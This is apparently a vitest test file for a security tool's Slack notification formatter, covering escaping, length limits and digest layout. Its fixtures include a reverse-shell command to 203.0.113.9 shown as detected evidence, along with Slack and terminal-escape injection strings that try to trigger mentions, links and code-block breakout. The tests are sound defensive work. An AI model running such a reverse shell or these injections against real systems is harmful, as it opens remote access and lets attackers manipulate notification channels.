import { describe, expect, it } from 'vitest';
import { SLACK_LIMITS, escapeSlack, fitSlack, slackPayload } from '../../../src/cp/notify/slack-message.js';
import type { SlackBlock, SlackPayload } from '../../../src/cp/notify/slack-message.js';
import { HOSTILE_TITLE, digestMessage, finding, findingMessage } from './notify-fixtures.js';

/** Every text in a payload, with the limit that applies to it. */
function texts(p: SlackPayload): { text: string; max: number }[] {
  const out: { text: string; max: number }[] = [{ text: p.text, max: SLACK_LIMITS.fallback }];
  const add = (b: SlackBlock): void => {
    if (b.type === 'header') out.push({ text: b.text.text, max: SLACK_LIMITS.header });
    if (b.type === 'section') {
      if (b.text) out.push({ text: b.text.text, max: SLACK_LIMITS.sectionText });
      for (const f of b.fields ?? []) out.push({ text: f.text, max: SLACK_LIMITS.field });
    }
    if (b.type === 'context') for (const e of b.elements) out.push({ text: e.text, max: SLACK_LIMITS.context });
  };
  p.blocks.forEach(add);
  return out;
}

/** What Slack would parse as a mention or link: `<` … `>` with no escaping. */
const CONTROL = /<(?!https:\/\/cp\.example:8443\/v1\/findings\/\d+\|)[^>]*>/;

describe('escapeSlack and fitSlack', () => {
  it('escapes &, < and > and defuses broadcast words', () => {
    expect(escapeSlack('<!channel> & <@U1> @here')).toBe('&lt;!channel&gt; &amp; &lt;@U1&gt; @\u2060here');
  });

  it('fits after escaping, never cutting inside an entity', () => {
    const fitted = fitSlack('<'.repeat(100), 50);
    expect(fitted.length).toBeLessThanOrEqual(50);
    expect(fitted).toMatch(/^(&lt;)+…$/);
  });
});

describe('slackPayload', () => {
  it('a finding: header, fields, evidence code block, action, context with the link', () => {
    const p = slackPayload(findingMessage());
    expect(p.blocks.map((b) => b.type)).toEqual(['header', 'section', 'section', 'section', 'section', 'context']);
    expect(p.blocks[0]).toEqual({ type: 'header', text: { type: 'plain_text', text: ':red_circle: HIGH: Reverse shell to 203.0.113.9', emoji: true } });
    const fields = (p.blocks[1] as { fields: { text: string }[] }).fields.map((f) => f.text);
    expect(fields).toEqual(['*Severity*\nHIGH', '*Host*\nweb-1', '*Agent*\nproc-watch', '*Category*\nprocess']);
    expect(JSON.stringify(p.blocks[3])).toContain('```bash -i &gt;&amp; /dev/tcp/203.0.113.9/4444 0&gt;&amp;1\\nparent: nginx```');
    const ctx = (p.blocks[5] as { elements: { text: string }[] }).elements[0]?.text;
    expect(ctx).toBe('<https://cp.example:8443/v1/findings/42|Finding 42> · run r-7 · channel ops · delivery d-1');
    expect(p.text).toBe('[okesu] HIGH Reverse shell to 203.0.113.9 — web-1');
  });

  it('hostile host text cannot mention, link or break out, and long text fits every limit', () => {
    const evil = `${HOSTILE_TITLE} \x1b]8;;https://evil\x07 @channel \`\`\` *bold*`;
    const f = finding({ title: HOSTILE_TITLE, host: evil.repeat(50), agent: evil, resource: evil.repeat(100), evidence: Array(40).fill(evil.repeat(20)), recommended_action: evil.repeat(200) });
    const p = slackPayload(findingMessage(f));
    for (const { text, max } of texts(p)) {
      expect(text.length).toBeLessThanOrEqual(max);
      expect(text).not.toMatch(CONTROL);
      expect(text).not.toMatch(/@(channel|here|everyone)/);
      // eslint-disable-next-line no-control-regex -- no raw control character reaches Slack
      expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    }
    expect(p.blocks[0]).toMatchObject({ text: { text: ':red_circle: HIGH: &lt;!channel&gt; &lt;https://evil.example|click&gt; &lt;@U123&gt; &amp; co' } });
    const evidence = JSON.stringify(p.blocks.find((b) => b.type === 'section' && b.text?.text.startsWith('*Evidence*')));
    expect(evidence.match(/```/g)).toHaveLength(2); // the host's ``` was split: one code block
  });

  it('a digest: severity counts, one line per group, capped at 10 sections and 50 blocks', () => {
    const small = slackPayload(digestMessage(3, 9));
    expect(small.blocks.map((b) => b.type)).toEqual(['header', 'section', 'section', 'context']);
    expect(small.blocks[0]).toMatchObject({ text: { text: ':rotating_light: Okesu Digest: 9 findings in 3 groups' } });
    expect(JSON.stringify(small.blocks[1])).toContain('CRITICAL 1 · HIGH 1 · MEDIUM 1');
    expect(JSON.stringify(small.blocks[2])).toContain('• *HIGH* Group 2 — host-2 (proc-watch) · <https://cp.example:8443/v1/findings/2|#2>');

    const long = { title: '<'.repeat(120), host: '&'.repeat(200), agent: '>'.repeat(100) };
    const fifty = digestMessage(50, 5000);
    for (const f of fifty.findings) Object.assign(f, long);
    const p = slackPayload(fifty);
    expect(p.blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
    for (const { text, max } of texts(p)) expect(text.length).toBeLessThanOrEqual(max);
    expect(JSON.stringify(p).match(/• \*/g)).toHaveLength(50); // the contract's 50 groups always fit

    const more = digestMessage(120, 5000); // beyond the contract: the rest is counted
    for (const f of more.findings) Object.assign(f, long);
    const q = slackPayload(more);
    expect(q.blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
    for (const { text, max } of texts(q)) expect(text.length).toBeLessThanOrEqual(max);
    expect(JSON.stringify(q)).toMatch(/…and \d+ more groups/);
  });
});
